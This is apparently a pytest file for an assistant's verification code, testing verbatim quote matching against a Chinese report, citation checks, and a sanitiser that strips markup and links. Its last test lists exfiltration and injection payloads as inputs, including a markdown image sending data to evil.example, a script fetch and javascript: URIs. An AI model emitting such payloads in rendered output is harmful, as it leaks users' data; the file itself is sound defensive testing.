"""A quote is the finding's own words or it does not count; markup and addresses do not pass."""

import pytest

from assistant.contract import Quote
from assistant.verify import Mismatch, explanation, find_quote, plain

TEXT = (
    "镇里未经集体研究，村支书张某将租金１.5万元存入个人账户；经查未发现其收受红包。"
    "会议没有召开，应当公示的事项没有公示，可以减免的除外。"
)


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("未经集体研究", "未经集体研究"),
        ("“未经集体研究”", "未经集体研究"),
        ("镇里未经集体研究,村支书张某", "镇里未经集体研究，村支书张某"),
        ("租金1.5万元存入个人账户", "租金１.5万元存入个人账户"),
        ("经查 未发现其收受红包", "经查未发现其收受红包"),
        ("会议没有召开", "会议没有召开"),
    ],
)
def test_a_quote_is_found_with_the_texts_own_words(said: str, words: str) -> None:
    found = find_quote(TEXT, said)
    assert isinstance(found, Quote)
    assert found.span == words == TEXT[found.start : found.end]


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ("经集体研究", "未"),
        ("已经集体研究", "未"),
        ("收受红包", "未发现"),
        ("会议", "没"),
        ("公示", "应当"),
        ("减免", "可以"),
        ("可以减免", "除外"),
        ("租金15万元存入个人账户", "逐字"),
        ("村支书李某将租金存入", "逐字"),
        ("收到群众表扬信三封", "没有这句话"),
        ("镇", "太短"),
    ],
)
def test_a_quote_that_says_something_else_fails(said: str, why: str) -> None:
    found = find_quote(TEXT, said)
    assert isinstance(found, Mismatch)
    assert why in found.reason


def test_a_second_place_where_the_words_stand_plainly_is_taken() -> None:
    found = find_quote("未公示账目。后来公示账目三个月。", "公示账目")
    assert isinstance(found, Quote)
    assert found.start == 8


@pytest.mark.parametrize("mark", ["[甲法:3]", "【甲法:3】", "[甲法：3]", "[ 甲法:3 ]"])
def test_a_citation_is_known_in_any_brackets(mark: str) -> None:
    checked = explanation(f"集体事项集体定{mark}。", ["甲法:3"])
    assert checked.cited == ("甲法:3",)
    assert checked.text == "集体事项集体定[甲法:3]。"


def test_a_citation_that_was_not_offered_is_named_where_it_stands() -> None:
    checked = explanation("见[乙法:9]和[甲法:3]。", ["甲法:3"])
    assert checked.cited == ("甲法:3",)
    assert "〔引用未通过核对：乙法:9〕" in checked.text
    assert checked.failures[0].kind == "引用"


@pytest.mark.parametrize(
    "said",
    [
        "![图](http://evil.example/?d=秘密)",
        "[看这里](https://evil.example/x)",
        "<img src=http://evil.example/?q=1>",
        "<script>fetch('//evil.example')</script>",
        "见 www.evil.example/a",
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "![x [y] z](//evil.example/a)",
        "![x [y [z] u] v](/\\evil.example/a)",
        "[a [b](c)](//evil.example/a)",
        "见 //evil.example/a",
        "/<b>/evil.example/a",
    ],
)
def test_nothing_that_could_be_fetched_or_rendered_is_left(said: str) -> None:
    left = plain(said)
    for trace in ("evil.example/", "<", "](", "javascript:", "data:"):
        assert trace not in left
